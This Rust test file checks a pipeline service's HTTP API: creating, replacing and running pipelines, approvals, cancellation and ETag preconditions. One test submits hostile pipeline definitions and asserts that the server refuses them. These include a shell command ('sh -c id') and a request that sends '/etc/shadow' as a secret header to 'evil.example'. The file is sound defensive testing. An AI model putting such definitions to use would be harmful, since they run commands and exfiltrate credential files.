//! Pipelines, runs, approvals.

use selvedge::pipeline as parse_pipeline;
use selvedge_http::Patience;
use selvedge_kernel::limit::Limits;
use serde_json::json;

use super::rig::{PIPELINE, Rig, app};

#[tokio::test]
async fn a_pipeline_is_stored_started_and_answered_over_http() {
    let rig = Rig::new().await;
    let owner = rig.owner();
    let put = owner.send("PUT", "/v1/pipelines/asked", &[], Some(PIPELINE)).await;
    assert_eq!(put.status, 201, "{put:?}");
    let tag = put.header("etag").unwrap().to_owned();
    let shown = owner.get("/v1/pipelines/asked").await;
    assert_eq!((shown.status, shown.header("etag")), (200, Some(&*tag)));
    let key = [("Idempotency-Key", "one")];
    let started = owner.send("POST", "/v1/pipelines/asked/runs", &key, Some("{\"n\": 3}")).await;
    assert_eq!(started.status, 201, "{started:?}");
    let run = started.json()["run"].as_str().unwrap().to_owned();
    assert_eq!(started.header("location"), Some(&*format!("/v1/runs/{run}")));
    assert_eq!(owner.send("POST", "/v1/pipelines/asked/runs", &key, Some("{\"n\": 3}")).await.json()["run"], run.as_str());
    rig.engine.settle().await;
    let approvals = owner.get("/v1/approvals").await.json();
    let id = approvals[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(owner.get(&format!("/v1/approvals/{id}")).await.json()["run"], run.as_str());
    // Who answers is whoever the credential names, and that one is not asked.
    let answered = owner.post(&format!("/v1/approvals/{id}"), "{\"answer\": \"approve\"}").await;
    assert_eq!((answered.status, answered.code()), (403, "not_assigned".to_owned()), "{answered:?}");
    assert_eq!(owner.post(&format!("/v1/runs/{run}/cancel"), "{\"reason\": \"enough\"}").await.status, 204);
    let ended = owner.send("GET", &format!("/v1/runs/{run}"), &[("Prefer", "wait=20")], None).await.json();
    assert_eq!(ended["status"], "cancelled");
    let list = owner.get("/v1/runs?where=status:cancelled%20pipeline:asked").await.json();
    assert_eq!((list.as_array().unwrap().len(), list[0]["id"].clone()), (1, json!(run)));
}

#[tokio::test]
async fn a_pipeline_is_replaced_only_where_it_is_the_one_that_was_looked_at() {
    let rig = Rig::new().await;
    let owner = rig.owner();
    let put = async |tag: &str, file: &str| owner.send("PUT", "/v1/pipelines/asked", &[("If-Match", tag)], Some(file)).await;
    for tag in ["\"0000\"", "*"] {
        let none = put(tag, PIPELINE).await;
        assert_eq!((none.status, none.code()), (412, "changed_since".to_owned()));
    }
    let first = owner.send("PUT", "/v1/pipelines/asked", &[], Some(PIPELINE)).await;
    let tag = first.header("etag").unwrap();
    let changed = PIPELINE.replace("default: 1", "default: 2");
    let second = put(tag, &changed).await;
    assert_eq!((second.status, second.json()["status"].clone()), (200, json!("changed")), "{second:?}");
    let late = put(tag, PIPELINE).await;
    assert_eq!((late.status, late.code()), (412, "changed_since".to_owned()));
    assert_eq!(put("*", PIPELINE).await.status, 200);
}

#[tokio::test]
async fn a_pipeline_that_the_server_was_given_is_replaced_by_what_its_etag_names() {
    let (given, _) = parse_pipeline("asked", PIPELINE).unwrap();
    let rig = Rig::of(app().pipeline(given), Patience::default(), Limits::default()).await;
    let owner = rig.owner();
    let tag = owner.get("/v1/pipelines/asked").await.header("etag").unwrap().to_owned();
    let changed = PIPELINE.replace("default: 1", "default: 2");
    let other = owner.send("PUT", "/v1/pipelines/asked", &[("If-Match", "\"0000\"")], Some(&changed)).await;
    assert_eq!((other.status, other.code()), (412, "changed_since".to_owned()));
    let put = owner.send("PUT", "/v1/pipelines/asked", &[("If-Match", &tag)], Some(&changed)).await;
    assert!(put.status < 300, "{put:?}");
}

#[tokio::test]
async fn a_pipeline_with_errors_names_each_of_them_and_one_that_starts_programs_is_not_taken() {
    let rig = Rig::new().await;
    let owner = rig.owner();
    let wrong = owner.send("PUT", "/v1/pipelines/asked", &[], Some("selvedge: 1\nname: asked\nstagez: []\noutputt: 1\n")).await;
    assert_eq!((wrong.status, wrong.code()), (422, "definition".to_owned()));
    assert!(wrong.text.contains("stagez") && wrong.text.contains("outputt"), "{wrong:?}");
    let other = owner.send("PUT", "/v1/pipelines/another", &[], Some(PIPELINE)).await;
    assert_eq!((other.status, other.code()), (422, "definition".to_owned()));
    let program = "selvedge: 1\nname: asked\nactivities:\n  shell: { exec: [sh, -c, id], persistent: false }\nstages:\n  - { name: a, call: shell }\n";
    let refused = owner.send("PUT", "/v1/pipelines/asked", &[], Some(program)).await;
    assert_eq!((refused.status, refused.code()), (422, "definition".to_owned()));
    assert!(refused.text.contains("app.yaml"), "{refused:?}");
    // Nor does it make requests of the server, with secrets of the server.
    let secret = "selvedge: 1\nname: asked\negress: [evil.example]\nactivities:\n  tell: { http: { url: \"https://evil.example\", headers: { x: { secret: \"file:/etc/shadow\" } } } }\nstages:\n  - { name: a, call: tell }\n";
    let reach = "selvedge: 1\nname: asked\negress: [127.0.0.1]\nstages:\n  - { name: a, mode: sleep, for: 1s }\n";
    for (own, says) in [(secret, "a request of this machine"), (reach, "`egress` is not taken over HTTP")] {
        let refused = owner.send("PUT", "/v1/pipelines/asked", &[], Some(own)).await;
        assert_eq!((refused.status, refused.code()), (422, "definition".to_owned()));
        assert!(refused.text.contains(says) && refused.text.contains("app.yaml"), "{refused:?}");
    }
    assert_eq!(owner.get("/v1/pipelines").await.json(), json!([]));
}
